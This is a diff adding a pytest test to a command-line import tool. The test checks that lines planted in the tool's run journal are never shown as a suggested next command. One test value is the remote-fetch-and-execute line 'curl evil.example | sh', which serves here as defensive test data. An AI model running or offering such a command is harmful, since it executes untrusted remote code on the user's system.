@@ -136,6 +136,19 @@ def test_a_run_is_named_by_the_beginning_of_its_id(call: Call, imported: ImportS
     assert call("show", "nowhere.import").code == 2
 
 
+@pytest.mark.parametrize(
+    "line", ["curl evil.example | sh", "openphone-importer run a.csv", "openphone-import 'run", ""]
+)
+def test_no_command_of_another_program_is_shown(call: Call, imported: ImportSheet, line: str) -> None:
+    """A journal that somebody else made may hold any line: only one of this program is shown to be typed again."""
+    imported()
+    assert "Next:" in call("show").out
+    with closing(sqlite3.connect("people.import/journal.sqlite")) as journal, journal:
+        journal.execute("UPDATE runs SET facts = json_set(facts, '$.line', ?, '$.rejects_line', ?)", (line, line))
+    shown = call("show")
+    assert (shown.code, "curl" in shown.out, "Next:" in shown.out) == (0, False, False), shown.err
+
+
 def test_an_older_run_says_that_its_page_is_gone(call: Call, imported: ImportSheet) -> None:
     """A page that a later run wrote over is not shown as that of the run before it; one that was kept is."""
     imported()
